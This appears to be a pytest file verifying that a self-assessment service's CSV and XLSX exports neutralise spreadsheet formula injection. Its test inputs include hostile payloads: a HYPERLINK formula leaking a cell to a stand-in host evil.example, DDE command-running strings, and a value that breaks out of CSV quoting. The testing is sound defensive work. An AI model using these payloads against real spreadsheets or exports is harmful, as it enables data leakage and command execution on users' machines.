"""Formula injection: text people typed (evidence, measures to improve, actions, owners, names,
partnership names) that a spreadsheet would run as a formula is neutralised in every CSV and XLSX
the service hands out: the assessment's ratings and action plan, and the national dataset.

CSV: such text gets an apostrophe and every field is quoted, so read with ``;`` as the list
separator (as spreadsheets do in much of Europe) no cell starts like a formula either. XLSX: the
text is a text cell holding exactly what was typed, never a formula and with no apostrophe."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from selfassess.domain.spreadsheet_safety import safe_cell
from selfassess.services.agreement import add_action, participant_for, save_agreed_rating
from tests.factories import make_assessment, make_partnership, make_user, rate
from tests.test_national_pages import _analyst, _open_collection

KP = "iom-key-principles"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x;=1+1;y",  # a formula after the list separator of a ";" locale
    'a";=HYPERLINK("http://evil.example");"b',  # and one trying to close the quotes first
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def assert_csv_neutralised(data: bytes, name: str) -> list[str]:
    """Every field quoted; no cell starts like a formula, split at commas or at semicolons."""
    assert data.decode("utf-8-sig").startswith('"'), f"{name}: the first field is not quoted"
    for delimiter in (",", ";"):
        cells = csv_cells(data, delimiter)
        live = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert not live, f"{name} split at {delimiter!r}: cells a spreadsheet would run: {live}"
    cells = csv_cells(data)
    for value in {*HOSTILE, *(v.strip() for v in HOSTILE)}:
        if value.startswith(FORMULA_STARTS) and (value in cells or "'" + value in cells):
            assert "'" + value in cells, f"{name}: {value!r} not shown as plain text"
    return cells


def assert_xlsx_text_cells(data: bytes, name: str) -> list:
    """No formula cell; text is a text cell holding what was typed, with no apostrophe added;
    one that looks like a formula has the quote-prefix style, so it stays text when edited."""
    # Not read-only and not data_only: a formula cell would show as data_type "f".
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"{name}: formula cells at {formulas}"
    text = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in text)
    assert not [c.value for c in text if c.value.startswith("'")], f"{name}: apostrophe shown"
    unprefixed = [c.value for c in text if c.value.startswith(FORMULA_STARTS) and not c.quotePrefix]
    assert not unprefixed, f"{name}: formula-like text without the quote prefix: {unprefixed}"
    return [c.value for c in cells]


@pytest.fixture
def hostile_assessment(app, client):
    p = make_partnership(name=HOSTILE[0], code="E09INJ")
    lead = make_user(p, "lead", name=HOSTILE[3], agency="local_authority")
    member = make_user(p, "member", name=HOSTILE[2], agency="police")
    assessment = make_assessment(p, (KP,), status="open", title=HOSTILE[1])
    lead_part = participant_for(assessment, lead, create=True)
    member_part = participant_for(assessment, member, create=True)
    rate(lead_part, "1.1", "red", evidence=HOSTILE[0], improvement=HOSTILE[1])
    rate(member_part, "1.1", "amber", evidence=HOSTILE[2], improvement=HOSTILE[3])
    rate(lead_part, "1.2", "green", evidence=HOSTILE[4], improvement=HOSTILE[5])
    save_agreed_rating(assessment, KP, "1.1", "red", HOSTILE[0], None, lead)
    for i, value in enumerate(HOSTILE):
        add_action(assessment, KP, value, HOSTILE[-1 - i], lead, item_id="1.1")
    with client.session_transaction() as session:
        session["_user_id"] = str(lead.id)
        session["_fresh"] = True
    return assessment


@pytest.mark.parametrize("name", ["ratings.csv", "ratings.xlsx", "actions.csv", "actions.xlsx"])
def test_assessment_exports_neutralise_formulas(client, hostile_assessment, name):
    response = client.get(f"/assessments/{hostile_assessment.id}/export/{name}")
    assert response.status_code == 200
    if name.endswith(".csv"):
        cells = assert_csv_neutralised(response.data, name)
    else:
        cells = assert_xlsx_text_cells(response.data, name)
    # The hostile text is there, as text: nothing was dropped to make the file safe.
    text = " ".join(str(c) for c in cells)
    # Actions are stored trimmed, so their tab and carriage return go; the formula stays.
    expected = HOSTILE[:4] if name.startswith("ratings") else [v.strip() for v in HOSTILE]
    for value in expected:
        shown = value if name.endswith(".xlsx") else safe_cell(value)  # apostrophes added
        assert shown in text, f"{name} lost {value!r}"
    if name.endswith(".xlsx"):  # each cell holds exactly what was typed
        assert set(expected) <= set(cells)


def test_the_national_dataset_neutralises_formulas(app, client):
    _analyst(client)
    partnerships = [
        make_partnership(name=name, code=f"E0{i}INJ", region="north_west")
        for i, name in enumerate(HOSTILE[:4])
    ]
    _open_collection(partnerships, slug="inject")
    codes = [p.code for p in partnerships]
    # "No" IOM arrangements: a return that needs no per-arrangement rows.
    lines = ["partnership_code,q1,1.1"] + [f"{code},no,green" for code in codes]
    response = client.post(
        "/national/collections/inject/import",
        data={"returns_file": (io.BytesIO("\n".join(lines).encode()), "returns.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.data
    response = client.get("/national/collections/inject/dataset.csv")
    assert response.status_code == 200
    cells = assert_csv_neutralised(response.data, "dataset.csv")
    assert {"'" + value for value in HOSTILE[:4]} <= set(cells)
    response = client.get("/national/collections/inject/dataset.xlsx")
    assert response.status_code == 200
    cells = assert_xlsx_text_cells(response.data, "dataset.xlsx")
    assert set(HOSTILE[:4]) <= set(cells)
